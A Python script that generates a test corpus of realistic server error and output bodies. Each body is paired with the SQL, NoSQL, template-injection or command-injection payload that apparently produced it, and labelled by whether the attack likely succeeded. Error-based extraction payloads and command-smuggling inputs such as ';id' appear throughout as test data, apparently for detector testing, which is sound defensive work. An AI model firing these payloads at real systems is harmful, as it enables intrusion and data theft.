#!/usr/bin/env python3
"""Generates responses.jsonl (beside this script): response bodies as real servers
print them after attack payloads, for TestResponseCorpus (python3 responses_gen.py).

Each case: id, group, category, payload, status, content_type, body, expect
(likely_successful | blocked | attempted), optional headers [[name, value]...], note.
"""
import json
import os

cases = []


def add(id, group, category, payload, status, ct, body, expect, headers=None, note=""):
    cases.append(dict(id=id, group=group, category=category, payload=payload, status=status,
                      content_type=ct, body=body, expect=expect, headers=headers or [], note=note))


LS, AT, BL = "likely_successful", "attempted", "blocked"

# A realistic product page (> 2 KiB) that an error can be embedded in.
NAV = "".join(f'<li class="nav-item"><a class="nav-link" href="/category/{i}">Category {i}</a></li>\n' for i in range(1, 25))
HEAD = ('<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n<title>ACME Shop - Product</title>\n'
        '<link rel="stylesheet" href="/css/bootstrap.min.css">\n<script src="/js/jquery-3.6.0.min.js"></script>\n</head>\n<body>\n'
        '<nav class="navbar"><ul class="navbar-nav">\n' + NAV + '</ul></nav>\n<div class="container">\n')
FOOT = ('</div>\n<footer class="footer"><p>&copy; 2024 ACME Corp. All rights reserved.</p>\n' + NAV +
        '</footer>\n<script>$(function(){ $(".nav-link").tooltip(); });</script>\n</body>\n</html>\n')


def page(inner):
    return HEAD + inner + FOOT


# ---------------------------------------------------------------- SQL errors
g = "sql"
add("mysql57-php-mysqli-fatal", g, "sql-injection", "1'", 200, "text/html; charset=UTF-8", page(
    "<br />\n<b>Fatal error</b>:  Uncaught mysqli_sql_exception: You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''1''' at line 1 in /var/www/html/product.php:14\nStack trace:\n#0 /var/www/html/product.php(14): mysqli-&gt;query('SELECT * FROM p...')\n#1 {main}\n  thrown in <b>/var/www/html/product.php</b> on line <b>14</b><br />\n"), LS)
add("mysql57-php-mysqli-fetch-warning", g, "sql-injection", "1'", 200, "text/html; charset=UTF-8", page(
    "<br />\n<b>Warning</b>:  mysqli_fetch_assoc() expects parameter 1 to be mysqli_result, boolean given in <b>/var/www/html/product.php</b> on line <b>23</b><br />\n<h2>Product</h2><p>No product.</p>"), LS,
    note="PHP 7 mysqli: query() returned false after the quote; classic boolean error signal")
add("mysql-php-mysql_fetch-legacy", g, "sql-injection", "1'", 200, "text/html", page(
    "<br />\n<b>Warning</b>:  mysql_fetch_array() expects parameter 1 to be resource, boolean given in <b>/var/www/html/news.php</b> on line <b>31</b><br />\n"), LS)
add("mysql8-laravel-json", g, "sql-injection", "1'", 500, "application/json",
    '{\n    "message": "SQLSTATE[42000]: Syntax error or access violation: 1064 You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near \'\'\' limit 1\' at line 1 (Connection: mysql, SQL: select * from `products` where id = 1\' limit 1)",\n    "exception": "Illuminate\\\\Database\\\\QueryException",\n    "file": "/var/www/html/vendor/laravel/framework/src/Illuminate/Database/Connection.php",\n    "line": 822,\n    "trace": [\n        {\n            "file": "/var/www/html/vendor/laravel/framework/src/Illuminate/Database/Connection.php",\n            "line": 776,\n            "function": "runQueryCallback",\n            "class": "Illuminate\\\\Database\\\\Connection",\n            "type": "->"\n        }\n    ]\n}', LS)
add("mysql8-node-mysql2", g, "sql-injection", "1'", 500, "application/json; charset=utf-8",
    '{"error":{"code":"ER_PARSE_ERROR","errno":1064,"sqlState":"42000","sqlMessage":"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near \'\'1\'\'\' at line 1","sql":"SELECT * FROM users WHERE id = \'1\'\'"}}', LS)
add("mariadb-python-mysqlclient", g, "sql-injection", "abc'", 500, "text/plain",
    'MySQLdb.ProgrammingError: (1064, "You have an error in your SQL syntax; check the manual that corresponds to your MariaDB server version for the right syntax to use near \'\'abc\'\'\' at line 1")', LS)
add("mysql8-go-driver", g, "sql-injection", "1'", 500, "application/json",
    '{"error":"Error 1064 (42000): You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near \'\'1\'\'\' at line 1"}', LS)
add("mysql-order-by-unknown-column", g, "sql-injection", "1 ORDER BY 100-- -", 500, "application/json",
    '{"error":"ER_BAD_FIELD_ERROR: Unknown column \'100\' in \'order clause\'"}', LS,
    note="column-count probing: the payload's ORDER BY reached the query")
add("mysql-union-columns", g, "sql-injection", "1 UNION SELECT 1,2-- -", 500, "text/html",
    "<b>Fatal error</b>: Uncaught mysqli_sql_exception: The used SELECT statements have a different number of columns in /var/www/html/item.php:9", LS,
    note="UNION column-count probing")
add("mysql-union-columns-json", g, "sql-injection", "1 UNION SELECT 1,2-- -", 500, "application/json",
    '{"error":"ER_WRONG_NUMBER_OF_COLUMNS_IN_SELECT: The used SELECT statements have a different number of columns"}', LS)

add("pg16-node-syntax", g, "sql-injection", "1'", 500, "application/json",
    '{"error":"syntax error at or near \\"\'\\""}', LS)
add("pg14-psql-style-unterminated", g, "sql-injection", "abc'", 500, "text/plain",
    'ERROR:  unterminated quoted string at or near "\'"\nLINE 1: SELECT * FROM users WHERE name = \'abc\'\'\n                                             ^', LS)
add("pg13-pgx-syntax", g, "sql-injection", "1' OR 1=1--", 500, "application/json",
    '{"message":"ERROR: syntax error at or near \\"OR\\" (SQLSTATE 42601)"}', LS)
add("pg12-invalid-input-concat", g, "sql-injection", "1abc'", 500, "application/json",
    '{"error":"invalid input syntax for type integer: \\"1abc\\""}', LS,
    note="concatenated '...WHERE id = ' + quoted; ambiguous but treated as DB error")
add("pg-order-by-position", g, "sql-injection", "1 ORDER BY 100--", 500, "application/json",
    '{"error":"ORDER BY position 100 is not in select list"}', LS, note="column-count probing")
add("pg-union-columns", g, "sql-injection", "1 UNION SELECT NULL--", 500, "application/json",
    '{"error":"each UNION query must have the same number of columns"}', LS)
add("pg-java-psqlexception", g, "sql-injection", "a'", 500, "application/json",
    '{"timestamp":"2024-03-01T10:00:00.000+00:00","status":500,"error":"Internal Server Error","message":"PreparedStatementCallback; bad SQL grammar [SELECT * FROM users WHERE name = \'a\'\']; nested exception is org.postgresql.util.PSQLException: ERROR: unterminated quoted string at or near \\"\'\\"\\n  Position: 35","path":"/api/users"}', LS)

add("mssql-dotnet-unclosed", g, "sql-injection", "a'", 500, "text/html; charset=utf-8",
    "<html><head><title>Unclosed quotation mark after the character string ''.<br>Incorrect syntax near ''.</title></head><body><h1>Server Error in '/' Application.</h1><h2><i>Unclosed quotation mark after the character string ''.<br>Incorrect syntax near ''.</i></h2><b> Exception Details: </b>System.Data.SqlClient.SqlException: Unclosed quotation mark after the character string ''.<br>Incorrect syntax near ''.</body></html>", LS)
add("mssql-classic-asp-odbc", g, "sql-injection", "1'", 500, "text/html",
    "<font face=\"Arial\" size=2>\n<p>Microsoft OLE DB Provider for ODBC Drivers</font> <font face=\"Arial\" size=2>error '80040e14'</font>\n<p>\n<font face=\"Arial\" size=2>[Microsoft][ODBC SQL Server Driver][SQL Server]Unclosed quotation mark after the character string ''.</font>\n<p>\n<font face=\"Arial\" size=2>/product.asp</font><font face=\"Arial\" size=2>, line 12</font>", LS)
add("mssql-efcore-incorrect-syntax", g, "sql-injection", "1 OR", 500, "text/plain",
    "Microsoft.Data.SqlClient.SqlException (0x80131904): Incorrect syntax near 'OR'.\n   at Microsoft.Data.SqlClient.SqlConnection.OnError(SqlException exception, Boolean breakConnection, Action`1 wrapCloseInAction)", LS)
add("mssql-conversion-json", g, "sql-injection", "1 AND 1=@@version--", 500, "application/json",
    "{\"error\":\"Conversion failed when converting the nvarchar value 'Microsoft SQL Server 2019 (RTM-CU18) (KB5017593) - 15.0.4261.1 (X64) \\n\\tSep 12 2022 15:07:06 \\n\\tCopyright (C) 2019 Microsoft Corporation\\n\\tDeveloper Edition (64-bit) on Linux (Ubuntu 20.04.5 LTS) <X64>' to data type int.\"}", LS,
    note="error-based extraction of @@version")
add("mssql-union-count", g, "sql-injection", "1 UNION SELECT NULL--", 500, "text/plain",
    "Microsoft.Data.SqlClient.SqlException (0x80131904): All queries combined using a UNION, INTERSECT or EXCEPT operator must have an equal number of expressions in their target lists.", LS)
add("mssql-order-by-range", g, "sql-injection", "1 ORDER BY 100--", 500, "application/json",
    '{"error":"The ORDER BY position number 100 is out of range of the number of items in the select list."}', LS)

add("oracle-00933-php", g, "sql-injection", "1 OR 1=1--", 200, "text/html", page(
    "<br />\n<b>Warning</b>:  oci_execute(): ORA-00933: SQL command not properly ended in <b>/var/www/html/search.php</b> on line <b>14</b><br />"), LS)
add("oracle-01756-java", g, "sql-injection", "a'", 500, "text/plain",
    "java.sql.SQLSyntaxErrorException: ORA-01756: quoted string not properly terminated\n\n\tat oracle.jdbc.driver.T4CTTIoer11.processError(T4CTTIoer11.java:509)", LS)
add("oracle-00907-json", g, "sql-injection", "1) OR (1=1", 500, "application/json",
    '{"errorCode":907,"message":"ORA-00907: missing right parenthesis"}', LS)

add("sqlite-node-sqlite3", g, "sql-injection", "a'", 500, "application/json",
    '{"error":"SQLITE_ERROR: unrecognized token: \\"\'a\'\'\\""}', LS)
add("sqlite-python", g, "sql-injection", "a' OR", 500, "text/html",
    '<!doctype html>\n<html lang=en>\n<title>500 Internal Server Error</title>\n<h1>Internal Server Error</h1>\n<p>sqlite3.OperationalError: near "OR": syntax error</p>', LS)
add("sqlite-go-json-escaped", g, "sql-injection", "a' OR", 500, "application/json",
    '{"error":"near \\"OR\\": syntax error"}', LS,
    note="err.Error() of mattn/go-sqlite3 or modernc in JSON: quotes are escaped")
add("sqlite-union-columns", g, "sql-injection", "1 UNION SELECT 1--", 500, "application/json",
    '{"error":"SELECTs to the left and right of UNION do not have the same number of result columns"}', LS)
add("sqlite-efcore", g, "sql-injection", "a'", 500, "text/plain",
    "Microsoft.Data.Sqlite.SqliteException (0x80004005): SQLite Error 1: 'unrecognized token: \"'a''\"'.", LS)

add("db2-jcc", g, "sql-injection", "1'", 500, "text/plain",
    "com.ibm.db2.jcc.am.SqlSyntaxErrorException: DB2 SQL Error: SQLCODE=-104, SQLSTATE=42601, SQLERRMC=';ERE ID = 1';<space>, DRIVER=4.26.14", LS)
add("db2-cli", g, "sql-injection", "1'", 500, "application/json",
    '{"error":"[IBM][CLI Driver][DB2/LINUXX8664] SQL0010N  The string constant beginning with \\"\'\\" does not have an ending string delimiter.  SQLSTATE=42603 SQLCODE=-10"}', LS)
add("h2-spring", g, "sql-injection", "a'", 500, "application/json",
    '{"timestamp":"2024-03-01T10:00:00.000+00:00","status":500,"error":"Internal Server Error","message":"could not prepare statement; SQL [select * from users where name=\'a\'\']; nested exception is org.h2.jdbc.JdbcSQLSyntaxErrorException: Syntax error in SQL statement \\"select * from users where name=\'a\'[*]\'\\"; SQL statement:\\nselect * from users where name=\'a\'\' [42000-214]","path":"/users"}', LS)
add("hsqldb-jdbc", g, "sql-injection", "1 OR", 500, "text/plain",
    "java.sql.SQLSyntaxErrorException: unexpected end of statement;  required: ( in statement [SELECT * FROM users WHERE id = 1 OR]", LS)
add("hsqldb-message-only", g, "sql-injection", "x' OR foo--", 500, "application/json",
    '{"message":"user lacks privilege or object not found: FOO in statement [SELECT * FROM users WHERE name = \'x\' OR foo--\']"}', LS)
add("cockroach-pgx-json", g, "sql-injection", "1 or", 500, "application/json",
    '{"error":"ERROR: at or near \\"EOF\\": syntax error (SQLSTATE 42601)"}', LS)
add("cockroach-plain", g, "sql-injection", "1 or", 500, "text/plain",
    'pq: at or near "EOF": syntax error', LS)
add("cockroach-lexical", g, "sql-injection", "a'", 500, "text/plain",
    "ERROR: lexical error: unterminated string\nSQLSTATE: 42601", LS)
add("clickhouse-http", g, "sql-injection", "a'", 500, "text/plain",
    "Code: 62. DB::Exception: Syntax error: failed at position 38 (''a''): 'a''. Expected one of: token, Comma, ClosingRoundBracket, end of query. (SYNTAX_ERROR) (version 23.8.2.7 (official build))", LS)
add("snowflake-python", g, "sql-injection", "a'", 500, "application/json",
    '{"error":"001003 (42000): SQL compilation error:\\nsyntax error line 1 at position 38 unexpected \'\'\'\'."}', LS)
add("snowflake-jdbc", g, "sql-injection", "a'", 500, "text/plain",
    "net.snowflake.client.jdbc.SnowflakeSQLException: SQL compilation error:\nsyntax error line 1 at position 38 unexpected ''''.", LS)
add("access-jet", g, "sql-injection", "1'", 500, "text/html",
    "<font face=\"Arial\" size=2>Microsoft JET Database Engine</font> <font face=\"Arial\" size=2>error '80040e14'</font>\n<p>\n<font face=\"Arial\" size=2>Syntax error in string in query expression 'id = 1''.</font>", LS)

# ---------------------------------------------------------------- ORMs / drivers
g = "orm"
add("django-debug-pg", g, "sql-injection", "1'", 500, "text/html", page(
    '<div id="summary">\n  <h1>ProgrammingError at /products/</h1>\n  <pre class="exception_value">unterminated quoted string at or near &quot;&#x27;&quot;\nLINE 1: ...ct&quot; WHERE &quot;shop_product&quot;.&quot;name&quot; = &#x27;1&#x27;&#x27;\n                                                             ^</pre>\n</div>'), LS)
add("django-prod-500", g, "sql-injection", "1'", 500, "text/html",
    "<!doctype html>\n<html lang=\"en\">\n<head>\n  <title>Server Error (500)</title>\n</head>\n<body>\n  <h1>Server Error (500)</h1><p></p>\n</body>\n</html>\n", AT)
add("rails-activerecord", g, "sql-injection", "1'", 500, "text/plain",
    "ActiveRecord::StatementInvalid (PG::SyntaxError: ERROR:  unterminated quoted string at or near \"'\"\nLINE 1: SELECT \"users\".* FROM \"users\" WHERE (name = '1'')\n                                                         ^\n):", LS)
add("laravel-queryexception-pg", g, "sql-injection", "1'", 500, "application/json",
    '{"message":"SQLSTATE[42601]: Syntax error: 7 ERROR:  unterminated quoted string at or near \\"\'\\"\\nLINE 1: select * from \\"users\\" where name = \'1\'\'\\n                                          ^ (Connection: pgsql, SQL: select * from \\"users\\" where name = \'1\'\')","exception":"Illuminate\\\\Database\\\\QueryException"}', LS)
add("hibernate-sqlgrammar-spring2", g, "sql-injection", "1'", 500, "application/json",
    '{"timestamp":"2024-03-01T10:00:00.000+00:00","status":500,"error":"Internal Server Error","message":"could not extract ResultSet; SQL [n/a]; nested exception is org.hibernate.exception.SQLGrammarException: could not extract ResultSet","path":"/api/products"}', LS,
    note="Spring Boot 2 default error JSON with server.error.include-message=always")
add("hibernate-hql-syntax", g, "sql-injection", "x' or '1'='1", 500, "text/plain",
    "org.hibernate.hql.internal.ast.QuerySyntaxException: unexpected token: or near line 1, column 48 [from com.acme.User u where u.name = 'x' or '1'='1']", LS)
add("sequelize-pg", g, "sql-injection", "1'", 500, "application/json",
    '{"name":"SequelizeDatabaseError","parent":{"length":98,"name":"error","severity":"ERROR","code":"42601","position":"44","file":"scan.l","line":"1180","routine":"scanner_yyerror","sql":"SELECT * FROM \\"Users\\" WHERE id = \'1\'\';"},"original":{"code":"42601"},"sql":"SELECT * FROM \\"Users\\" WHERE id = \'1\'\';"}', LS,
    note="Sequelize error serialized by res.json(err): the message is not an own enumerable property")
add("prisma-p2010-pg", g, "sql-injection", "1'", 500, "application/json",
    '{"name":"PrismaClientKnownRequestError","code":"P2010","clientVersion":"5.7.1","meta":{"code":"42601","message":"db error: ERROR: unterminated quoted string at or near \\"\'\\""}}', LS)
add("prisma-message", g, "sql-injection", "1'", 500, "text/plain",
    "PrismaClientKnownRequestError: \nInvalid `prisma.$queryRawUnsafe()` invocation:\n\n\nRaw query failed. Code: `1064`. Message: `You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''1''' at line 1`", LS)
add("gorm-mysql", g, "sql-injection", "1'", 500, "application/json",
    '{"error":"Error 1064 (42000): You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near \'\'1\'\' ORDER BY `users`.`id` LIMIT 1\' at line 1"}', LS)
add("gorm-sqlite-escaped", g, "sql-injection", "1'", 500, "application/json",
    '{"error":"unrecognized token: \\"\'1\'\'\\""}', LS)
add("efcore-dbupdate", g, "sql-injection", "x'", 500, "text/plain",
    "Microsoft.EntityFrameworkCore.DbUpdateException: An error occurred while saving the entity changes. See the inner exception for details.\n ---> Microsoft.Data.SqlClient.SqlException (0x80131904): Unclosed quotation mark after the character string 'x''.", LS)
add("knex-pg", g, "sql-injection", "x'", 500, "application/json",
    '{"error":"select * from \\"users\\" where name = \'x\'\' - unterminated quoted string at or near \\"\'\\""}', LS)
add("sqlalchemy-psycopg2", g, "sql-injection", "x'", 500, "text/plain",
    "sqlalchemy.exc.ProgrammingError: (psycopg2.errors.SyntaxError) unterminated quoted string at or near \"'\"\nLINE 1: SELECT * FROM users WHERE name = 'x''\n                                           ^\n\n[SQL: SELECT * FROM users WHERE name = 'x'']\n(Background on this error at: https://sqlalche.me/e/20/f405)", LS)
add("sqlalchemy-pymysql", g, "sql-injection", "x'", 500, "application/json",
    '{"detail":"(pymysql.err.ProgrammingError) (1064, \\"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near \'\'x\'\'\'\' at line 1\\")"}', LS)

# ---------------------------------------------------------------- error-based extraction
g = "extract"
add("mysql-xpath-extractvalue", g, "sql-injection", "1 AND extractvalue(1,concat(0x7e,version()))", 500, "text/html",
    "<b>Fatal error</b>:  Uncaught mysqli_sql_exception: XPATH syntax error: '~5.7.33' in /var/www/html/item.php:11", LS)
add("mysql-xpath-json", g, "sql-injection", "1 AND updatexml(1,concat(0x7e,version()),1)", 500, "application/json",
    "{\"error\":\"ER_UNKNOWN_ERROR: XPATH syntax error: '~8.0.35'\"}", LS)
add("mysql-xpath-pdo", g, "sql-injection", "1 AND extractvalue(1,concat(0x7e,user()))", 500, "application/json",
    "{\"message\":\"SQLSTATE[HY000]: General error: 1105 XPATH syntax error: '~root@localhost'\"}", LS)
add("mysql-duplicate-entry-57", g, "sql-injection", "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)", 500, "text/html",
    "<b>Fatal error</b>:  Uncaught mysqli_sql_exception: Duplicate entry '5.7.33~1' for key 'group_key' in /var/www/html/item.php:11", LS)
add("mysql-duplicate-entry-8-json", g, "sql-injection", "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),0x7e,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)", 500, "application/json",
    "{\"error\":\"ER_DUP_ENTRY: Duplicate entry '8.0.35~1' for key '<group_key>'\"}", LS)
add("pg-cast-version", g, "sql-injection", "1 AND 1=CAST((SELECT version()) AS int)", 500, "application/json",
    '{"error":"invalid input syntax for type integer: \\"PostgreSQL 14.2 on x86_64-pc-linux-gnu, compiled by gcc (GCC) 7.3.1 20180712 (Red Hat 7.3.1-12), 64-bit\\""}', LS)
add("mssql-convert-version", g, "sql-injection", "1 AND 1=CONVERT(int,@@version)--", 500, "text/plain",
    "Microsoft.Data.SqlClient.SqlException (0x80131904): Conversion failed when converting the nvarchar value 'Microsoft SQL Server 2019 (RTM) - 15.0.2000.5 (X64) \n\tSep 24 2019 13:48:23 \n\tCopyright (C) 2019 Microsoft Corporation\n\tExpress Edition (64-bit) on Windows Server 2019 Standard 10.0 <X64> (Build 17763: ) (Hypervisor)\n' to data type int.", LS)
add("mssql-convert-dbname-sqlclient", g, "sql-injection", "1 AND 1=CONVERT(int,db_name())--", 500, "text/html",
    "<b> Exception Details: </b>System.Data.SqlClient.SqlException: Conversion failed when converting the nvarchar value 'ShopDB' to data type int.", LS)
add("oracle-ctxsys", g, "sql-injection", "1 AND 1=CTXSYS.DRITHSX.SN(1,(SELECT banner FROM v$version WHERE rownum=1))", 500, "text/plain",
    "java.sql.SQLException: ORA-20000: Oracle Text error:\nDRG-11701: thesaurus Oracle Database 19c Enterprise Edition Release 19.0.0.0.0 - Production does not exist\nORA-06512: at \"CTXSYS.DRUE\", line 183", LS)

# ---------------------------------------------------------------- NoSQL
g = "nosql"
add("mongo-node-unknown-op", g, "nosql-injection", '{"$foo":1}', 500, "application/json",
    '{"error":"MongoServerError: unknown operator: $foo"}', LS)
add("mongo-raw-errmsg", g, "nosql-injection", '{"$foo":1}', 400, "application/json",
    '{"ok":0,"errmsg":"unknown operator: $foo","code":2,"codeName":"BadValue"}', LS)
add("mongo-where-js-error-server", g, "nosql-injection", "' || '1'=='1", 500, "text/plain",
    "MongoServerError: Executor error during find command :: caused by :: SyntaxError: unterminated string literal :\n@:1:37\n", LS)
add("mongo-where-js-errmsg", g, "nosql-injection", "';return true;var x='", 500, "application/json",
    '{"ok":0,"errmsg":"SyntaxError: unterminated string literal :\\nfunctionExpressionParser@src/mongo/scripting/mozjs/mongohelpers.js:46:25\\n@:1:24\\n","code":139,"codeName":"JSInterpreterFailure"}', LS,
    note="$where JS error serialized as the server's reply document")
add("mongo-java-driver", g, "nosql-injection", '{"$foo":1}', 500, "text/plain",
    "com.mongodb.MongoQueryException: Query failed with error code 2 and error message 'unknown operator: $foo' on server localhost:27017", LS)
add("pymongo-operationfailure", g, "nosql-injection", '{"$where":"sleep(1"}', 500, "text/plain",
    "pymongo.errors.OperationFailure: SyntaxError: missing ) in parenthetical :\n@:1:8\n, full error: {'ok': 0.0, 'errmsg': 'SyntaxError: missing ) in parenthetical :\\n@:1:8\\n', 'code': 139, 'codeName': 'JSInterpreterFailure'}", LS)
add("mongo-toplevel", g, "nosql-injection", '{"$bad":1}', 500, "application/json",
    '{"message":"unknown top level operator: $bad. If you have a field name that starts with a \'$\' symbol, consider using $getField or $setField."}', LS)
add("mongoose-casterror-text-string", g, "nosql-injection", "' || 'a'=='a", 500, "text/html",
    "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<title>Error</title>\n</head>\n<body>\n<pre>CastError: Cast to ObjectId failed for value &quot;&#39; || &#39;a&#39;==&#39;a&quot; (type string) at path &quot;_id&quot; for model &quot;User&quot;<br> &nbsp; &nbsp;at model.Query.exec (/app/node_modules/mongoose/lib/query.js:4498:21)</pre>\n</body>\n</html>\n", AT,
    note="the whole payload was cast as one string value and refused by the schema: no operator or JS reached MongoDB")
add("mongoose-casterror-json-object", g, "nosql-injection", '{"$ne":null}', 500, "application/json",
    '{"stringValue":"\\"{ \'$ne\': null }\\"","valueType":"Object","kind":"ObjectId","value":{"$ne":null},"path":"_id","reason":{},"name":"CastError","message":"Cast to ObjectId failed for value \\"{ \'$ne\': null }\\" (type Object) at path \\"_id\\" for model \\"User\\""}', AT,
    note="CastError of an operator object: Mongoose (sanitizeFilter / $eq wrapping) refused to use it; the defence worked")

# ---------------------------------------------------------------- template engines
g = "template"
add("jinja2-werkzeug", g, "template-injection", "{{7*}}", 500, "text/html",
    '<!doctype html>\n<html lang=en>\n  <head>\n    <title>jinja2.exceptions.TemplateSyntaxError: Expected an expression, got \'end of print statement\'\n // Werkzeug Debugger</title>', LS)
add("jinja2-plain-500", g, "template-injection", "{{7*}}", 500, "text/plain",
    "jinja2.exceptions.TemplateSyntaxError: Expected an expression, got 'end of print statement'", LS)
add("twig-php-fatal", g, "template-injection", "{{7*}}", 500, "text/html",
    "<br />\n<b>Fatal error</b>:  Uncaught Twig\\Error\\SyntaxError: Unexpected token \"end of print statement\" of value \"\" in \"__string_template__4e1b0d3f6c3a8b2e\" at line 1. in /var/www/html/vendor/twig/twig/src/ExpressionParser.php:219", LS)
add("twig-symfony-json", g, "template-injection", "{{7*}}", 500, "application/problem+json",
    '{"type":"https://tools.ietf.org/html/rfc2616#section-10","title":"An error occurred","status":500,"detail":"Unexpected token \\"end of print statement\\" of value \\"\\" in \\"__string_template__4e1b0d3f6c3a8b2e\\" at line 1.","class":"Twig\\\\Error\\\\SyntaxError","trace":[{"namespace":"","short_class":"","class":"","type":"","function":"","file":"/var/www/vendor/twig/twig/src/ExpressionParser.php","line":219,"args":[]}]}', LS,
    note="Symfony debug JSON: the class name's backslashes are JSON-escaped")
add("twig-legacy", g, "template-injection", "{{7*}}", 500, "text/html",
    "<b>Fatal error</b>: Uncaught exception 'Twig_Error_Syntax' with message 'Unexpected token \"end of print statement\" of value \"\" in \"index\" at line 1'", LS)
add("freemarker-parse", g, "template-injection", "${7*}", 500, "text/plain",
    "freemarker.core.ParseException: Syntax error in template \"greeting\" in line 1, column 5:\nEncountered \"}\", but was expecting one of:\n    <STRING_LITERAL>\n    <RAW_STRING>", LS)
add("freemarker-html-debug", g, "template-injection", "${foo}", 500, "text/html",
    "<!-- FREEMARKER ERROR MESSAGE STARTS HERE -->\n<pre>FreeMarker template error (HTML_DEBUG mode; use RETHROW in production!):\nThe following has evaluated to null or missing:\n==&gt; foo  [in template &quot;greeting&quot; at line 1, column 3]\n\n----\nJava stack trace (for programmers):\n----\nfreemarker.core.InvalidReferenceException: [... Exception message was already printed; see it above ...]\n\tat freemarker.core.InvalidReferenceException.getInstance(InvalidReferenceException.java:134)</pre>", LS)
add("velocity-parse", g, "template-injection", "#set($x=)", 500, "text/plain",
    "org.apache.velocity.exception.ParseErrorException: Encountered \")\" at greeting[line 1, column 9]\nWas expecting one of:\n    \"[\" ...", LS)
add("thymeleaf-processing", g, "template-injection", "__${7*}__::.x", 500, "application/json",
    '{"timestamp":"2024-03-01T10:00:00.000+00:00","status":500,"error":"Internal Server Error","trace":"org.thymeleaf.exceptions.TemplateProcessingException: Could not parse as expression: \\"__${7*}__::.x\\" (template: \\"welcome\\" - line 10, col 8)\\n\\tat org.thymeleaf.standard.expression.StandardExpressionParser.parseExpression(StandardExpressionParser.java:131)","message":"Could not parse as expression","path":"/path"}', LS)
add("spel-el1008e", g, "template-injection", "${foo}", 500, "application/json",
    '{"timestamp":"2024-03-01T10:00:00.000+00:00","status":500,"error":"Internal Server Error","trace":"org.springframework.expression.spel.SpelEvaluationException: EL1008E: Property or field \'foo\' cannot be found on object of type \'org.springframework.expression.spel.support.StandardEvaluationContext\' - maybe not public or not valid?\\n\\tat org.springframework.expression.spel.ast.PropertyOrFieldReference.readProperty(PropertyOrFieldReference.java:217)\\n\\tat org.springframework.expression.spel.ast.PropertyOrFieldReference.getValueInternal(PropertyOrFieldReference.java:104)","message":"EL1008E: Property or field \'foo\' cannot be found on object of type \'org.springframework.expression.spel.support.StandardEvaluationContext\' - maybe not public or not valid?","path":"/greet"}', LS,
    note="SpEL evaluated the injected expression (it resolved a property): the expression reached the evaluator")
add("smarty-compiler", g, "template-injection", "{$x|}", 500, "text/html",
    "<br />\n<b>Fatal error</b>:  Uncaught  --&gt; Smarty Compiler: Syntax error in template &quot;string:Hello {$x|}&quot;  on line 1 &quot;Hello {$x|}&quot; - Unexpected &quot;}&quot; &lt;-- \n  thrown in <b>/var/www/html/vendor/smarty/smarty/libs/sysplugins/smarty_internal_templatecompilerbase.php</b> on line <b>1</b><br />", LS)
add("smarty-exception-class", g, "template-injection", "{$x|}", 500, "text/plain",
    "PHP Fatal error:  Uncaught SmartyCompilerException: Syntax error in template \"string:{$x|}\"  on line 1 \"{$x|}\" - Unexpected \"}\"", LS)
add("handlebars-parse", g, "template-injection", "{{#with}}", 500, "text/html",
    "<pre>Error: Parse error on line 1:\n{{#with}}\n-------^\nExpecting &#39;ID&#39;, &#39;STRING&#39;, &#39;NUMBER&#39;, got &#39;CLOSE&#39;<br> &nbsp; &nbsp;at Parser.parseError (/app/node_modules/handlebars/dist/cjs/handlebars/compiler/parser.js:267:19)</pre>", LS)
add("erb-actionview", g, "template-injection", "<%= 7* %>", 500, "text/plain",
    "ActionView::Template::Error (undefined method `*' for nil:NilClass):", LS)
add("pug-error", g, "template-injection", "#{7*}", 500, "text/html",
    "<pre>Error: Pug:1:7<br> &nbsp; &gt; 1| p #{7*}<br>-------------^<br><br>Syntax Error: Unexpected token<br> &nbsp; &nbsp;at makeError (/app/node_modules/pug-error/index.js:34:13)<br> &nbsp; &nbsp;at Lexer.error (/app/node_modules/pug-lexer/index.js:62:15)</pre>", LS)
add("nunjucks-error", g, "template-injection", "{{7*}}", 500, "text/html",
    "<pre>Template render error: (unknown path) [Line 1, Column 9]<br> &nbsp;unexpected token: }}<br> &nbsp; &nbsp;at Object._prettifyError (/app/node_modules/nunjucks/src/lib.js:32:11)</pre>", LS)
add("go-text-template", g, "template-injection", "{{.Foo}", 500, "text/plain",
    'template: greeting:1: unexpected "}" in operand', LS)
add("mako-error", g, "template-injection", "${7*}", 500, "text/plain",
    "mako.exceptions.SyntaxException: (SyntaxError) invalid syntax (<unknown>, line 1) ('7*') in file 'memory:0x7f2c1c2b3d90' at line: 1 char: 1", LS)

# ---------------------------------------------------------------- SSTI evaluated
g = "ssti-eval"
add("jinja-49-html-bare", g, "template-injection", "{{7*7}}", 200, "text/html; charset=utf-8",
    "<!doctype html>\n<html>\n<head><title>Greeting</title></head>\n<body>\n<h1>Hello 49!</h1>\n</body>\n</html>\n", LS,
    note="the classic SSTI confirmation: a bare probe whose result stands in text")
add("jinja-49-json-string", g, "template-injection", "{{7*7}}", 200, "application/json",
    '{"message":"Hello 49"}', LS, note="result inside a longer JSON string")
add("jinja-7777777", g, "template-injection", "{{7*'7'}}", 200, "text/html",
    "<p>Hello 7777777</p>", LS)
add("freemarker-49-with-context", g, "template-injection", "Dear ${7*7},", 200, "text/html",
    "<p>Dear 49,</p>", LS)
add("twig-49-whole-body", g, "template-injection", "{{7*7}}", 200, "text/plain", "49", LS)
add("big-product-49", g, "template-injection", "{{1337*1337}}", 200, "text/html", page("<p>Results for 1787569</p>"), LS)

# ---------------------------------------------------------------- command output
g = "cmd"
add("id-www-data", g, "os-command-injection", ";id", 200, "text/plain",
    "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n", LS)
add("id-in-json", g, "os-command-injection", "127.0.0.1;id", 200, "application/json",
    '{"output":"PING 127.0.0.1 (127.0.0.1) 56(84) bytes of data.\\nuid=33(www-data) gid=33(www-data) groups=33(www-data)\\n"}', LS)
